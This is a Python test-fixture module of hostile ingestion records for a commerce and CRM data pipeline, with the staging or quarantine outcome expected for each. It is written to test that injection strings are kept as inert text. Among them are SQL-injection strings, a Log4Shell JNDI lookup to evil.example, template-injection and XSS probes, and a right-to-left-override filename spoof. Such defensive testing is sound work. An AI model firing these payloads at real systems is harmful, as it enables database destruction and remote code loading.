"""Hostile records per mapped source stream, as data, each with where it must end up.

Every case is one raw record (what a connector pulled) plus its expectation:

- ``Staged``: the record is staged, and the named staging columns hold exactly these values
  (injection strings, emoji and right-to-left names are plain text and must come back unchanged);
- ``Quarantined``: the record is in ``quarantine`` with each listed problem (rule, column, and a
  piece of the reason), and nowhere in staging;
- ``Tombstone``: the record was deleted at the source; counted as a tombstone, never staged.

Payloads follow the sandbox's real API shapes (sandbox/systems.py). ``good_*`` builders give a
clean record; ``variant`` changes one (``DROP`` deletes a key). Nothing here touches a database.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any

HUGE = 10_000_000  # characters: the "10 MB string"
DROP = object()  # in a variant: delete this key


def huge_text(seed: str = "Ab") -> str:
    """A 10 MB string of mixed case (so name casing leaves it alone)."""
    return (seed * (HUGE // len(seed) + 1))[:HUGE]


@dataclass(frozen=True)
class OneOf:
    """Any of these stored values is correct (e.g. a lone surrogate removed or replaced by U+FFFD)."""

    options: tuple[Any, ...]


@dataclass(frozen=True)
class Staged:
    values: dict[str, Any] = field(default_factory=dict)  # staging column -> exact stored value
    lines: int | None = None  # child rows (order lines) expected in stg_<source>__order_lines


@dataclass(frozen=True)
class Problem:
    rules: tuple[str, ...]  # acceptable `quarantine.rule` values (exact)
    column: str | None  # exact `quarantine.column_name`
    reason: str | None = None  # a substring the reason must contain


@dataclass(frozen=True)
class Quarantined:
    problems: tuple[Problem, ...]


@dataclass(frozen=True)
class Tombstone:
    pass


def staged(lines: int | None = None, **values: Any) -> Staged:
    return Staged(values, lines)


def quarantined(rule: str | tuple[str, ...], column: str | None, reason: str | None = None,
                *more: Problem) -> Quarantined:
    rules = (rule,) if isinstance(rule, str) else rule
    return Quarantined((Problem(rules, column, reason), *more))


def mapping_rule(kind: str, column: str | None) -> str:
    return f"mapping:{kind}" + (f"({column})" if column else "")


def mapped(kind: str, column: str, reason: str | None = None) -> Quarantined:
    """A problem found while mapping: rule mapping:<kind>(<column>)."""
    return quarantined(mapping_rule(kind, column), column, reason)


def gx(expectation: str, column: str, reason: str) -> Quarantined:
    """A row-level Great Expectations failure: rule expect_...(<column>)."""
    return quarantined(f"expect_column_values_to_{expectation}({column})", column, reason)


def required_missing(*columns: str) -> Quarantined:
    return Quarantined(tuple(Problem((mapping_rule("missing_required", c),), c, "required value is missing")
                             for c in columns))


def too_long(column: str) -> Quarantined:
    """A value longer than its canonical column: refused while mapping, naming the length."""
    return quarantined((mapping_rule("out_of_range", column), mapping_rule("unparseable_name", column),
                        mapping_rule("unparseable_text", column), mapping_rule("unparseable_email", column)),
                       column, "characters")


def out_of_range_date(column: str) -> Quarantined:
    return mapped("out_of_range", column, "outside 1900..2099")


def unreadable(transform: str, column: str, reason: str | None = None) -> Quarantined:
    return mapped(f"unparseable_{transform}", column, reason)


NOT_AN_OBJECT = quarantined("mapping:not_an_object", None, "not an object")
NOT_JSON = quarantined("mapping:not_json", None, "not valid JSON")
TOMBSTONE = Tombstone()


@dataclass(frozen=True)
class Case:
    source: str
    stream: str
    record_id: str
    payload: Any  # the decoded record; ignored when raw_text is set
    expect: Staged | Quarantined | Tombstone
    kind: str  # what makes it hostile (for reports and counts)
    raw_text: str | None = None  # the raw payload text, when it is not JSON at all
    deleted: bool = False

    @property
    def label(self) -> str:
        return f"{self.source}.{self.stream}:{self.record_id}:{self.kind}"


def variant(base: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    """A deep copy of base with changes merged in (nested dicts merge; DROP removes the key)."""
    out = copy.deepcopy(base)

    def merge(target: dict[str, Any], patch: dict[str, Any]) -> None:
        for key, value in patch.items():
            if value is DROP:
                target.pop(key, None)
            elif isinstance(value, dict) and isinstance(target.get(key), dict) and value:
                merge(target[key], value)
            else:
                target[key] = copy.deepcopy(value)

    merge(out, changes)
    return out


# --- clean records, shaped like the sandbox's ----------------------------------------------------

def good_woo_customer(cid: int, first: str = "Дмитрий", last: str = "Волков",
                      email: str = "dmitriyvolkov68@gmail.com") -> dict[str, Any]:
    return {
        "id": cid, "date_created": "2026-06-16T01:36:46", "date_created_gmt": "2026-06-15T22:36:46",
        "date_modified": "2026-10-02T13:32:18", "date_modified_gmt": "2026-10-02T10:32:18",
        "email": email, "first_name": first, "last_name": last, "role": "customer",
        "username": f"user{cid}",
        "billing": {"first_name": first, "last_name": last, "company": "ООО \"Гранит-Групп\"",
                    "address_1": "ул. Советская, д. 100, кв. 16", "address_2": "", "city": "Москва",
                    "state": "", "postcode": "383519", "country": "RU", "email": email,
                    "phone": "8 (959) 816-27-78"},
        "shipping": {}, "is_paying_customer": False, "meta_data": [],
    }


def good_woo_order(oid: int, customer_id: int = 0) -> dict[str, Any]:
    return {
        "id": oid, "parent_id": 0, "number": str(oid), "status": "completed", "currency": "RUB",
        "date_created": "2026-09-23T03:02:04", "date_created_gmt": "2026-09-23T00:02:04",
        "date_modified": "2026-09-23T19:02:04", "date_modified_gmt": "2026-09-23T16:02:04",
        "total": "12690.00", "total_tax": "0.00", "customer_id": customer_id,
        "billing": {"first_name": "Артём", "last_name": "Алексеев", "company": "",
                    "address_1": "ул. Пушкина, д. 78, кв. 7", "city": "Нижний Новгород", "postcode": "593025",
                    "country": "RU", "email": "alekseev.artyom@bk.ru", "phone": "+7 939 421 6932"},
        "payment_method": "bacs",
        "line_items": [
            {"id": 1, "name": "Espresso beans 1 kg", "product_id": 101, "quantity": 1, "subtotal": "1890.00",
             "total": "1890.00", "sku": "SKU-100", "price": 1890},
            {"id": 2, "name": "Kettle", "product_id": 104, "quantity": 2, "subtotal": "10800.00",
             "total": "10800.00", "sku": "SKU-101", "price": 5400}],
    }


def good_qb_customer(cid: str, given: str = "Dmitry", family: str = "Volkov") -> dict[str, Any]:
    return {
        "Id": cid, "SyncToken": "0", "DisplayName": f"{given} {family}", "GivenName": given, "FamilyName": family,
        "CompanyName": "Granit Group", "Active": True, "Balance": 0,
        "CurrencyRef": {"value": "USD", "name": "USD"},
        "BillAddr": {"Id": "10001", "Line1": "8505 Elm St", "City": "New York", "CountrySubDivisionCode": "NY",
                     "PostalCode": "10001", "Country": "USA"},
        "MetaData": {"CreateTime": "2026-07-05T12:17:32-07:00", "LastUpdatedTime": "2026-07-15T09:28:51-07:00"},
        "PrimaryEmailAddr": {"Address": f"{given.lower()}.{family.lower()}@granitgroup.example"},
        "Mobile": {"FreeFormNumber": "+1 (512) 765-6016"},
    }


def good_qb_invoice(iid: str, customer: str = "1") -> dict[str, Any]:
    return {
        "Id": iid, "SyncToken": "0", "DocNumber": f"D{iid}", "TxnDate": "2026-10-12", "DueDate": "2026-11-11",
        "CustomerRef": {"value": customer, "name": "Granit Group"}, "TotalAmt": 14200.0, "Balance": 0,
        "CurrencyRef": {"value": "USD", "name": "USD"},
        "Line": [
            {"Id": "1", "LineNum": 1, "Amount": 11700, "DetailType": "SalesItemLineDetail",
             "SalesItemLineDetail": {"ItemRef": {"value": "1", "name": "Milk frother"}, "Qty": 3, "UnitPrice": 3900}},
            {"Id": "2", "LineNum": 2, "Amount": 2500, "DetailType": "SalesItemLineDetail",
             "SalesItemLineDetail": {"ItemRef": {"value": "2", "name": "French press"}, "Qty": 1, "UnitPrice": 2500}},
            {"Amount": 14200, "DetailType": "SubTotalLineDetail", "SubTotalLineDetail": {}}],
        "MetaData": {"CreateTime": "2026-10-12T06:27:19-07:00", "LastUpdatedTime": "2026-10-22T06:27:19-07:00"},
    }


def good_qb_payment(pid: str, customer: str = "1") -> dict[str, Any]:
    return {
        "Id": pid, "SyncToken": "0", "TotalAmt": 14200.0, "CustomerRef": {"value": customer, "name": "Granit Group"},
        "CurrencyRef": {"value": "USD"}, "TxnDate": "2026-10-30",
        "LinkedTxn": [{"TxnId": "5001", "TxnType": "Invoice"}],
        "MetaData": {"CreateTime": "2026-10-30T06:27:19-07:00", "LastUpdatedTime": "2026-10-30T06:27:19-07:00"},
    }


def good_mc_member(mid: str, first: str = "Aleksandr", last: str = "Khokhlov",
                   email: str = "khokhlov.aleksandr@mail.ru") -> dict[str, Any]:
    return {
        "id": mid, "email_address": email, "unique_email_id": "8a2dde0416", "full_name": f"{first} {last}",
        "web_id": 100007, "email_type": "html", "status": "subscribed",
        "merge_fields": {"FNAME": first, "LNAME": last, "PHONE": "", "ADDRESS": ""},
        "timestamp_signup": "2026-09-07T11:38:24+00:00", "timestamp_opt": "2026-09-07T11:38:24+00:00",
        "member_rating": 2, "last_changed": "2026-09-26T12:34:38+00:00", "language": "ru", "vip": False,
        "location": {"latitude": 0, "longitude": 0, "country_code": "RU", "timezone": ""},
        "source": "API - Generic", "tags_count": 0, "tags": [],
    }


def good_mc_activity(email_id: str, action: str = "open") -> dict[str, Any]:
    return {"campaign_id": "ba3c7e951e", "email_id": email_id, "email_address": "elena.vasileva@inbox.ru",
            "action": action, "timestamp": "2026-01-28T21:43:00+00:00", "ip": "212.156.119.202"}


def good_mc_sent_to(email_id: str) -> dict[str, Any]:
    return {"campaign_id": "fadacc0fc9", "email_id": email_id, "email_address": "jennifer.nelson@hotmail.com",
            "merge_fields": {"FNAME": "Jennifer", "LNAME": "Nelson", "PHONE": "", "ADDRESS": ""}, "vip": False,
            "status": "sent", "open_count": 0, "last_open": "", "absplit_group": "", "gmt_offset": 0,
            "list_is_active": True}


def good_mc_unsubscribe(email_id: str) -> dict[str, Any]:
    return {"campaign_id": "fadacc0fc9", "email_id": email_id, "email_address": "ivan.petrov@yandex.ru",
            "merge_fields": {"FNAME": "Ivan", "LNAME": "Petrov", "PHONE": "", "ADDRESS": ""}, "vip": False,
            "timestamp": "2026-02-01T10:00:00+00:00", "reason": "Too many emails", "list_is_active": True}


def good_crm_contact(cid: str, first: str = "Артём", last: str = "Алексеев") -> dict[str, Any]:
    return {
        "id": cid, "date_entered": "2024-09-02 20:03:52", "date_modified": "2026-02-10 22:07:14",
        "date_modified_effective": "2026-02-10 22:07:14", "deleted": 0, "salutation": "",
        "first_name": first, "last_name": last, "title": "", "department": "", "birthdate": "1985-04-12",
        "phone_home": None, "phone_mobile": "89394216932", "phone_work": None,
        "primary_address_street": "ул. Пушкина, д. 78, кв. 7", "primary_address_city": "Нижний Новгород",
        "primary_address_state": "", "primary_address_postalcode": "593025", "primary_address_country": "RU",
        "lead_source": "Web Site", "description": None, "account_name": "ООО Ромашка",
        "emails": [{"email_address": "a.alekseev@example.ru", "primary_address": 1, "opt_out": 0}],
        "email_opt_out": 0,
    }


def good_crm_account(aid: str, name: str = "Acme Partners Inc.") -> dict[str, Any]:
    return {
        "id": aid, "name": name, "date_entered": "2024-02-18 06:51:32", "date_modified": "2025-05-04 02:58:57",
        "date_modified_effective": "2025-05-04 02:58:57", "deleted": 0, "account_type": "Prospect",
        "industry": "Retail", "annual_revenue": "188400000", "billing_address_street": "8505 Elm St",
        "billing_address_city": "New York", "billing_address_state": "NY", "billing_address_postalcode": "10001",
        "billing_address_country": "USA", "phone_office": "+1 (512) 765-6016", "phone_alternate": None,
        "website": "https://acmepartners.com", "employees": "1200",
    }


# --- hostile strings ------------------------------------------------------------------------------

SQLI_NAME = "Robert'); DROP TABLE customers;--"
SQLI_CITY = "'; DELETE FROM raw_records WHERE '1'='1"
SQLI_ID = "7' OR '1'='1"
TEMPLATE = "{{7*7}}"
JNDI = "${jndi:ldap://evil.example/a}"
TEMPLATES = "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} <script>alert(1)</script>"
EMOJI_FIRST = "Zoë 🎉"
EMOJI_FAMILY = "Ана 👨\u200d👩\u200d👧"  # a ZWJ sequence: must survive intact
ARABIC_FIRST, ARABIC_LAST = "محمد", "العلي"
HEBREW_FIRST, HEBREW_LAST = "דוד", "כהן"
RLO_NAME = "Eve\u202egnp.exe"  # right-to-left override spoofing "exe.png": the control goes, the text stays
NUL_NAME = "An\u0000na"
SURROGATE_NAME = "Smi\ud800th"  # a lone surrogate, as JSON "\ud800" decodes

# Sent as personal values: never shown in full in quarantine.
PERSONAL_KEYS = {"first_name", "last_name", "email", "phone", "FNAME", "LNAME", "PHONE", "email_address",
                 "GivenName", "FamilyName", "Address", "FreeFormNumber", "phone_mobile", "phone_work",
                 "phone_home", "full_name", "birthdate"}


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def personal_values(payload: Any) -> set[str]:
    """Personal string values (longer than 4 characters) anywhere in a payload, also inside a list or
    object sent where one value was expected (["a@x.com", "b@x.com"] as an email)."""
    found: set[str] = set()
    if isinstance(payload, dict):
        for key, value in payload.items():
            if key in PERSONAL_KEYS:
                found |= {s.strip() for s in _strings(value) if len(s.strip()) > 4}
            found |= personal_values(value)
    elif isinstance(payload, list):
        for item in payload:
            found |= personal_values(item)
    return found


# --- the corpus --------------------------------------------------------------------------------------

# What a JSON document that is not an object is called, in JSON's own terms (RFC 8259).
JSON_TYPES = {"nonobj-list": "array", "nonobj-string": "string", "nonobj-number": "number",
              "nonobj-null": "null", "nonobj-bool": "boolean"}


def _non_objects(source: str, stream: str) -> list[Case]:
    """JSON that is not an object, and text that is not JSON, in every stream."""
    return [
        Case(source, stream, "nonobj-list", [1, 2, {"id": 3}], NOT_AN_OBJECT, "not_an_object"),
        Case(source, stream, "nonobj-string", "just a string", NOT_AN_OBJECT, "not_an_object"),
        Case(source, stream, "nonobj-number", 42, NOT_AN_OBJECT, "not_an_object"),
        Case(source, stream, "nonobj-null", None, NOT_AN_OBJECT, "not_an_object"),
        Case(source, stream, "nonobj-bool", True, NOT_AN_OBJECT, "not_an_object"),
        Case(source, stream, "not-json", None, NOT_JSON, "not_json", raw_text='{"id": 1, "first_name": "trunc'),
    ]


def woocommerce_customers() -> list[Case]:
    s, st = "woocommerce", "customers"
    g = good_woo_customer

    def named(first: str, last: str) -> dict[str, Any]:
        return {"first_name": first, "last_name": last, "billing": {"first_name": first, "last_name": last}}

    return [
        Case(s, st, "1", g(1), staged(first_name="Дмитрий", last_name="Волков", email="dmitriyvolkov68@gmail.com",
                                        phone="+79598162778"), "clean"),
        Case(s, st, "2", g(2, "Elena", "Vasileva", "elena.v@example.com"), staged(first_name="Elena"), "clean"),
        Case(s, st, "10", variant(g(10), named(EMOJI_FIRST, "Ünlü-Öztürk")),
             staged(first_name=EMOJI_FIRST, last_name="Ünlü-Öztürk"), "emoji_name"),
        Case(s, st, "11", variant(g(11), named(ARABIC_FIRST, ARABIC_LAST)),
             staged(first_name=ARABIC_FIRST, last_name=ARABIC_LAST), "rtl_name"),
        Case(s, st, "12", variant(g(12), {**named(TEMPLATE, SQLI_NAME),
                                          "billing": {"first_name": TEMPLATE, "last_name": SQLI_NAME,
                                                      "city": SQLI_CITY, "company": JNDI,
                                                      "address_1": TEMPLATES}}),
             staged(first_name=TEMPLATE, last_name=SQLI_NAME, city=SQLI_CITY, company=JNDI,
                    address_line1=TEMPLATES), "injection"),
        Case(s, st, "13", variant(g(13), named(RLO_NAME, EMOJI_FAMILY)),
             staged(first_name="Evegnp.exe", last_name=EMOJI_FAMILY), "rtl_override"),
        Case(s, st, "14", variant(g(14), named(NUL_NAME, SURROGATE_NAME)),
             staged(first_name="Anna", last_name=OneOf(("Smith", "Smi\ufffdth"))), "nul_surrogate"),
        Case(s, st, "15", variant(g(15), named(huge_text(), "Volkov")), too_long("first_name"), "huge_string"),
        Case(s, st, "16", variant(g(16), {"first_name": {"given": "Ivan"}, "billing": {"first_name": "Ivan"}}),
             unreadable("name", "first_name", "JSON object"), "wrong_type"),
        Case(s, st, "17", variant(g(17), {"email": ["a@example.com", "b@example.com"]}),
             unreadable("email", "email", "JSON array"), "wrong_type"),
        Case(s, st, "18", variant(g(18), {"email": "john.smith.example.com", "billing": {"email": ""}}),
             gx("match_regex", "email", "email is not a valid address"), "invalid_email"),
        Case(s, st, "19", variant(g(19), {"billing": {"phone": "call me maybe 555"}}),
             gx("match_regex", "phone", "phone cannot be read as a valid number"), "invalid_phone"),
        Case(s, st, "20", variant(g(20), {"date_modified_gmt": "0001-01-01T00:00:00"}),
             out_of_range_date("source_updated_at"), "year_0001"),
        Case(s, st, "21", variant(g(21), {"date_modified_gmt": "9999-12-31T23:59:59-05:00"}),
             unreadable("datetime", "source_updated_at", "out of range"), "year_9999"),
        Case(s, st, "22", variant(g(22), {"date_modified_gmt": "9999-12-31T23:59:59"}),
             out_of_range_date("source_updated_at"), "year_9999"),
        Case(s, st, "23", variant(g(23), {"first_name": "", "last_name": "", "email": "", "username": "",
                                          "billing": {"first_name": "", "last_name": "", "email": "",
                                                      "phone": ""}}),
             gx("be_in_set", "identity_present", "nothing identifies this person"), "missing_required"),
        Case(s, st, "24", [], TOMBSTONE, "tombstone", deleted=True),
        *_non_objects(s, st),
    ]


def woocommerce_orders() -> list[Case]:
    s, st = "woocommerce", "orders"
    g = good_woo_order
    line = {"id": 1, "name": "Kettle", "product_id": 104, "quantity": 1, "total": "100.00", "sku": "SKU-1",
            "price": 100}
    return [
        Case(s, st, "1001", g(1001, 1), staged(lines=2, amount=Decimal("12690.00"), currency="RUB",
                                                contact_record_id="1", status="completed"), "clean"),
        Case(s, st, "1002", g(1002), staged(lines=2, amount=Decimal("12690.00")), "clean"),
        Case(s, st, "1003", variant(g(1003), {"total": "1 234,56 ₽"}), staged(amount=Decimal("1234.56")),
             "formatted_money"),
        Case(s, st, "1004", variant(g(1004), {"billing": {"first_name": HEBREW_FIRST, "last_name": SQLI_NAME,
                                                          "city": SQLI_CITY}}),
             staged(first_name=HEBREW_FIRST, last_name=SQLI_NAME), "rtl_name"),
        Case(s, st, "1010", variant(g(1010), {"total": "-5.00"}),
             gx("be_between", "amount", "amount is negative"), "negative_money"),
        Case(s, st, "1011", variant(g(1011), {"total": "NaN"}),
             quarantined((mapping_rule("unparseable_money", "amount"), mapping_rule("out_of_range", "amount")),
                         "amount", "NaN"), "nan_money"),
        Case(s, st, "1012", variant(g(1012), {"total": float("nan")}),
             quarantined((mapping_rule("unparseable_money", "amount"), mapping_rule("out_of_range", "amount")),
                         "amount", "NaN"), "nan_money"),
        Case(s, st, "1013", variant(g(1013), {"total": "Infinity"}),
             quarantined((mapping_rule("unparseable_money", "amount"), mapping_rule("out_of_range", "amount")),
                         "amount", "Infinity"), "nan_money"),
        Case(s, st, "1014", variant(g(1014), {"total": {"amount": "12690.00", "currency": "RUB"}}),
             unreadable("money", "amount", "dict"), "wrong_type"),
        Case(s, st, "1015", variant(g(1015), {"total": "   "}), required_missing("amount"), "missing_required"),
        Case(s, st, "1016", variant(g(1016), {"total": DROP, "currency": DROP, "date_created_gmt": DROP}),
             required_missing("amount", "currency", "ordered_at"), "missing_required"),
        Case(s, st, "1017", variant(g(1017), {"total": "1e20"}),
             mapped("out_of_range", "amount", "does not fit 14 digits"), "huge_money"),
        Case(s, st, "1018", variant(g(1018), {"customer_id": [1, 2]}),
             unreadable("id_ref", "contact_record_id", "JSON array"), "wrong_type"),
        Case(s, st, "1019", variant(g(1019), {"customer_id": 999}),
             gx("be_in_set", "contact_ref_known", "referential integrity"), "dangling_reference"),
        Case(s, st, "1020", variant(g(1020), {"date_created_gmt": "0001-01-01T00:00:00"}),
             out_of_range_date("ordered_at"), "year_0001"),
        Case(s, st, "1021", variant(g(1021), {"date_created_gmt": "9999-12-31T23:59:59-05:00"}),
             unreadable("datetime", "ordered_at", "out of range"), "year_9999"),
        Case(s, st, "1022", variant(g(1022), {"date_created_gmt": "2090-01-01T00:00:00"}),
             gx("be_between", "ordered_at", "order date is in the future"), "future_date"),
        Case(s, st, "1023", variant(g(1023), {"currency": "Dollars"}),
             mapped("unknown_value", "currency", "not in value map currencies"), "unknown_value"),
        Case(s, st, "1024", variant(g(1024), {"currency": "XXX"}),
             gx("be_in_set", "currency", "currency is not one of mappings/currencies.yaml"), "unknown_value"),
        Case(s, st, "1025", variant(g(1025), {"status": "exploded"}),
             mapped("unknown_value", "status", "not in value map order_status"), "unknown_value"),
        Case(s, st, "1026", variant(g(1026), {"number": huge_text("1x")}), too_long("number"), "huge_string"),
        Case(s, st, "1027", variant(g(1027), {"line_items": ["oops", line]}),
             mapped("not_an_object", "line_items[0]", "not an object"), "bad_child"),
        Case(s, st, "1028", variant(g(1028), {"line_items": line}),
             mapped("not_a_list", "line_items", "expected a list"), "bad_child"),
        Case(s, st, "1029", variant(g(1029), {"line_items": [{**line, "total": "-100.00"}]}),
             gx("be_between", "order_lines.amount", "line amount is negative"), "negative_money"),
        Case(s, st, "1030", variant(g(1030), {"line_items": [{**line, "id": "first"}]}),
             unreadable("integer", "line_items[0].line_no", "line_items[0]"), "wrong_type"),
        Case(s, st, "1031", variant(g(1031), {"line_items": [{**line, "quantity": "three"}]}),
             unreadable("number", "line_items[0].quantity", "line_items[0].quantity"), "wrong_type"),
        Case(s, st, "1032", variant(g(1032), {"line_items": [{**line, "total": "NaN"}]}),
             quarantined((mapping_rule("unparseable_money", "line_items[0].amount"),
                          mapping_rule("out_of_range", "line_items[0].amount")), "line_items[0].amount",
                         "line_items[0].amount"),
             "nan_money"),
        # An order is not dropped for a mistyped contact address (its revenue is real); see the report.
        Case(s, st, "1033", variant(g(1033), {"billing": {"email": "buyer@@example..com"}}),
             staged(amount=Decimal("12690.00")), "invalid_email"),
        *_non_objects(s, st),
    ]


def quickbooks_customers() -> list[Case]:
    s, st = "quickbooks", "customers"
    g = good_qb_customer
    return [
        Case(s, st, "1", g("1"), staged(first_name="Dmitry", last_name="Volkov", phone="+15127656016"), "clean"),
        Case(s, st, "2", g("2", "Jennifer", "Nelson"), staged(first_name="Jennifer"), "clean"),
        Case(s, st, "10", variant(g("10", ARABIC_FIRST, EMOJI_FIRST),
                                  {"PrimaryEmailAddr": {"Address": "m.alali@example.ae"}}),
             staged(first_name=ARABIC_FIRST, last_name=EMOJI_FIRST, email="m.alali@example.ae"), "rtl_name"),
        Case(s, st, "11", variant(g("11"), {"GivenName": NUL_NAME, "FamilyName": SURROGATE_NAME}),
             staged(first_name="Anna", last_name=OneOf(("Smith", "Smi\ufffdth"))), "nul_surrogate"),
        Case(s, st, "12", variant(g("12"), {"CompanyName": SQLI_NAME, "BillAddr": {"City": TEMPLATES}}),
             staged(company=SQLI_NAME, city=TEMPLATES), "injection"),
        Case(s, st, "13", variant(g("13"), {"FamilyName": huge_text()}), too_long("last_name"), "huge_string"),
        Case(s, st, "14", variant(g("14"), {"PrimaryEmailAddr": {"Address": ["x@example.com"]}}),
             unreadable("email", "email", "JSON array"), "wrong_type"),
        Case(s, st, "15", variant(g("15"), {"Mobile": {"FreeFormNumber": "+1 555 01 DROP TABLE"}}),
             gx("match_regex", "phone", "phone cannot be read as a valid number"), "invalid_phone"),
        Case(s, st, "16", variant(g("16"), {"MetaData": {"LastUpdatedTime": "0001-01-01T00:00:00-08:00"}}),
             out_of_range_date("source_updated_at"), "year_0001"),
        Case(s, st, "17", variant(g("17"), {"MetaData": {"LastUpdatedTime": "9999-12-31T23:59:59-05:00"}}),
             unreadable("datetime", "source_updated_at", "out of range"), "year_9999"),
        Case(s, st, "18", variant(g("18"), {"GivenName": DROP, "FamilyName": DROP, "PrimaryEmailAddr": DROP,
                                            "Mobile": DROP}),
             gx("be_in_set", "identity_present", "nothing identifies this person"), "missing_required"),
        *_non_objects(s, st),
    ]


def quickbooks_invoices() -> list[Case]:
    s, st = "quickbooks", "invoices"
    g = good_qb_invoice
    return [
        Case(s, st, "5001", g("5001"), staged(lines=2, amount=Decimal("14200.00"), currency="USD",
                                              contact_record_id="1"), "clean"),
        Case(s, st, "5002", variant(g("5002"), {"DocNumber": JNDI}), staged(lines=2, number=JNDI), "injection"),
        Case(s, st, "5010", variant(g("5010"), {"TotalAmt": -14200.0}),
             gx("be_between", "amount", "amount is negative"), "negative_money"),
        Case(s, st, "5011", variant(g("5011"), {"TotalAmt": float("nan")}),
             quarantined((mapping_rule("unparseable_money", "amount"), mapping_rule("out_of_range", "amount")),
                         "amount", "nan"), "nan_money"),
        Case(s, st, "5012", variant(g("5012"), {"TotalAmt": 1e20}),
             mapped("out_of_range", "amount", "does not fit 14 digits"), "huge_money"),
        Case(s, st, "5013", variant(g("5013"), {"TotalAmt": True}), unreadable("money", "amount", "boolean"),
             "wrong_type"),
        Case(s, st, "5014", variant(g("5014"), {"CustomerRef": {"value": ["1", "2"]}}),
             unreadable("id_ref", "contact_record_id", "JSON array"), "wrong_type"),
        Case(s, st, "5015", variant(g("5015"), {"CustomerRef": {"value": "999"}}),
             gx("be_in_set", "contact_ref_known", "referential integrity"), "dangling_reference"),
        Case(s, st, "5016", variant(g("5016"), {"TxnDate": "0001-01-01"}), out_of_range_date("ordered_at"),
             "year_0001"),
        Case(s, st, "5017", variant(g("5017"), {"TxnDate": "9999-12-31"}), out_of_range_date("ordered_at"),
             "year_9999"),
        Case(s, st, "5023", variant(g("5023"), {"TxnDate": DROP, "MetaData": {"CreateTime": "9999-12-31T23:59:59-05:00"}}),
             unreadable("datetime", "ordered_at", "out of range"), "year_9999"),
        Case(s, st, "5018", variant(g("5018"), {"CurrencyRef": {"value": "Dollars"}}),
             mapped("unknown_value", "currency", "not in value map currencies"), "unknown_value"),
        Case(s, st, "5019", variant(g("5019"), {"Line": "oops"}), mapped("not_a_list", "Line", "expected a list"),
             "bad_child"),
        Case(s, st, "5020", variant(g("5020"), {"Line": [None, *g("5020")["Line"]]}),
             mapped("not_an_object", "Line[0]", "not an object"), "bad_child"),
        Case(s, st, "5021", variant(g("5021"), {"Line": [{**g("5021")["Line"][0], "Amount": -1}]}),
             gx("be_between", "order_lines.amount", "line amount is negative"), "negative_money"),
        Case(s, st, "5022", variant(g("5022"), {"TotalAmt": DROP, "CurrencyRef": DROP, "TxnDate": DROP,
                                                "MetaData": {"CreateTime": DROP}}),
             required_missing("amount", "currency", "ordered_at"), "missing_required"),
        *_non_objects(s, st),
    ]


def quickbooks_payments() -> list[Case]:
    s, st = "quickbooks", "payments"
    g = good_qb_payment
    return [
        Case(s, st, "9001", g("9001"), staged(amount=Decimal("14200.00"), applied_to="5001"), "clean"),
        Case(s, st, "9010", variant(g("9010"), {"TotalAmt": -10}), gx("be_between", "amount", "amount is negative"),
             "negative_money"),
        Case(s, st, "9011", variant(g("9011"), {"TotalAmt": "Infinity"}),
             quarantined((mapping_rule("unparseable_money", "amount"), mapping_rule("out_of_range", "amount")),
                         "amount", "Infinity"), "nan_money"),
        Case(s, st, "9012", variant(g("9012"), {"TxnDate": "9999-12-31"}), out_of_range_date("paid_at"),
             "year_9999"),
        Case(s, st, "9013", variant(g("9013"), {"TxnDate": "0001-01-01"}), out_of_range_date("paid_at"), "year_0001"),
        Case(s, st, "9014", variant(g("9014"), {"TotalAmt": DROP}), required_missing("amount"), "missing_required"),
        Case(s, st, "9015", variant(g("9015"), {"CustomerRef": {"value": {"id": "1"}}}),
             unreadable("id_ref", "contact_record_id", "JSON object"), "wrong_type"),
        Case(s, st, "9016", variant(g("9016"), {"TotalAmt": {"value": 1}}), unreadable("money", "amount", "dict"),
             "wrong_type"),
        *_non_objects(s, st),
    ]


def mailchimp_members() -> list[Case]:
    s, st = "mailchimp", "members"
    g = good_mc_member
    h = "0123456789abcdef0123456789abcd"
    return [
        Case(s, st, f"{h}01", g(f"{h}01"), staged(first_name="Aleksandr", email="khokhlov.aleksandr@mail.ru",
                                                  email_consent="subscribed"), "clean"),
        Case(s, st, SQLI_ID, g(SQLI_ID, "Olga", "Ivanova", "olga.ivanova@mail.ru"),
             staged(first_name="Olga"), "injection_key"),
        Case(s, st, f"{h}02", g(f"{h}02", HEBREW_FIRST, EMOJI_FAMILY, "david.cohen@example.co.il"),
             staged(first_name=HEBREW_FIRST, last_name=EMOJI_FAMILY), "rtl_name"),
        Case(s, st, f"{h}03", variant(g(f"{h}03"), {"merge_fields": {"FNAME": TEMPLATE, "LNAME": SQLI_NAME,
                                                                   "ADDRESS": {"addr1": JNDI,
                                                                               "city": TEMPLATES}}}),
             staged(first_name=TEMPLATE, last_name=SQLI_NAME, address_line1=JNDI, city=TEMPLATES), "injection"),
        Case(s, st, f"{h}10", variant(g(f"{h}10"), {"status": "bogus"}),
             mapped("unknown_value", "email_consent", "not in value map mailchimp_status"), "unknown_value"),
        Case(s, st, f"{h}11", variant(g(f"{h}11"), {"status": DROP}), required_missing("email_consent"),
             "missing_required"),
        Case(s, st, f"{h}12", variant(g(f"{h}12"), {"email_address": "not-an-email"}),
             gx("match_regex", "email", "email is not a valid address"), "invalid_email"),
        Case(s, st, f"{h}13", variant(g(f"{h}13"), {"email_address": huge_text("a@b.") + "ru"}),
             too_long("email"), "huge_string"),
        Case(s, st, f"{h}14", variant(g(f"{h}14"), {"merge_fields": {"PHONE": "phone: n/a"}}),
             gx("match_regex", "phone", "phone cannot be read as a valid number"), "invalid_phone"),
        Case(s, st, f"{h}15", variant(g(f"{h}15"), {"last_changed": "9999-12-31T23:59:59+00:00"}),
             out_of_range_date("source_updated_at"), "year_9999"),
        Case(s, st, f"{h}16", variant(g(f"{h}16"), {"timestamp_opt": "0001-01-01T00:00:00+00:00"}),
             out_of_range_date("email_consent_at"), "year_0001"),
        Case(s, st, f"{h}17", variant(g(f"{h}17"), {"merge_fields": {"FNAME": ["Ann", "Anna"]}}),
             unreadable("name", "first_name", "JSON array"), "wrong_type"),
        *_non_objects(s, st),
    ]


def mailchimp_email_activity() -> list[Case]:
    s, st = "mailchimp", "email_activity"
    g = good_mc_activity

    def rid(p: dict[str, Any]) -> str:
        return f"{p['campaign_id']}:{p['email_id']}:{p['action']}:{p['timestamp']}"

    url = "https://shop.example/?q={{7*7}}&x=${jndi:ldap://x}"
    cases = [
